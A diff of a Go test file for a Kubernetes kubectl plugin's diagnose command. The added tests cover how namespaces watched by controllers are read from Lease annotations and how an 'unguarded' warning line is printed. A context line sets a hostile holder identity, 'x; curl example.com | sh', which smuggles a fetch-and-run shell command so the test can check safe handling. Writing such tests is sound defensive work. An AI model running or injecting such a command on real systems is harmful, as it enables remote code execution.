@@ -16,6 +16,7 @@ import (
 	clienttesting "k8s.io/client-go/testing"
 
 	"github.com/localservice-dev/local-service-controller/cmd/kubectl-localservice/diagnose"
+	"github.com/localservice-dev/local-service-controller/pkg/apis/localservice/v1alpha1"
 )
 
 // lease returns a Lease of a controller that was last renewed some time ago.
@@ -85,6 +86,50 @@ func TestLeaseHolder(t *testing.T) {
 	hostile.Spec.HolderIdentity = new("x; curl example.com | sh_0815")
 	if got := newFixture(t, hostile).cluster("default").controller(t.Context()); got.Holder != "POD" {
 		t.Errorf("got %+v", got)
+	}
+}
+
+// TestWatched: of several controllers, each says in its Lease which namespaces it watches, unless it is older. The guard
+// counts of the one whose Lease counts.
+func TestWatched(t *testing.T) {
+	t.Parallel()
+	watching := func(namespace, namespaces string) *coordinationv1.Lease {
+		l := lease(namespace, -time.Minute)
+		l.Annotations = map[string]string{v1alpha1.NamespacesAnnotationKey: namespaces,
+			v1alpha1.UnguardedAnnotationKey: "of " + namespace}
+		return l
+	}
+	givenBack := watching("b", "c")
+	givenBack.Spec.HolderIdentity = nil
+	for name, c := range map[string]struct {
+		leases []runtime.Object
+		want   []string
+	}{
+		"one":               {[]runtime.Object{watching(diagnose.UsualNamespace, "a,b")}, []string{"a", "b"}},
+		"two":               {[]runtime.Object{watching(diagnose.UsualNamespace, "a"), watching("b", "c")}, []string{"c", "a"}},
+		"one is given back": {[]runtime.Object{watching(diagnose.UsualNamespace, "a"), givenBack}, []string{"a"}},
+		"all":               {[]runtime.Object{watching(diagnose.UsualNamespace, "")}, []string{""}},
+		"an older one":      {[]runtime.Object{watching(diagnose.UsualNamespace, "a"), lease("b", 0)}, []string{"", "a"}},
+	} {
+		got := newFixture(t, c.leases...).cluster("default").controller(t.Context())
+		if !slices.Equal(got.Namespaces, c.want) {
+			t.Errorf("%s: %q, want %q", name, got.Namespaces, c.want)
+		}
+		if got.Unguarded != "of "+diagnose.UsualNamespace {
+			t.Errorf("%s: unguarded %q", name, got.Unguarded)
+		}
+	}
+}
+
+// TestUnguarded: that the guard is not in force is one line, below the table.
+func TestUnguarded(t *testing.T) {
+	t.Parallel()
+	l := lease("ops", -time.Minute)
+	l.Annotations = map[string]string{v1alpha1.UnguardedAnnotationKey: "pods,services"}
+	_, stdout, stderr := newFixture(t, l).run(t, "nodes", "-A")
+	const line = "The guard does not protect pods,services: the controller's log says what to do.\n"
+	if !strings.HasSuffix(stderr, "\n"+line) || strings.Count(stdout+stderr, "guard") != 1 {
+		t.Error(stderr)
 	}
 }
 
